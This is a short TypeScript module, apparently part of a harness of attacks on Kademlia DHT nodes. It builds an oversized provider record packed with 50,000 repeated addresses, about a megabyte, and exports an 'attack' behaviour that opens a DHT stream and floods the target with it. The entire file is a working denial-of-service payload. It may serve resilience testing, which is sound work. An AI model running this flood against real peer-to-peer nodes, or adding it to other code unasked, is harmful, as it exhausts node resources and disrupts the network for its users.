/** A record of a provider with as many addresses as fit into a megabyte. */
import { ADDRESS, addProvider, DHT, newKey } from '../attack/kad.js'
import type { Behaviour } from '../attack/target.js'
import { data, flooding, framed, opening } from '../attack/wire.js'

const RECORD = framed(addProvider(newKey(), Buffer.alloc(38), Array.from({ length: 50_000 }, () => ADDRESS)))

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => n === 0 ? opening(1, DHT) : data(1, RECORD))
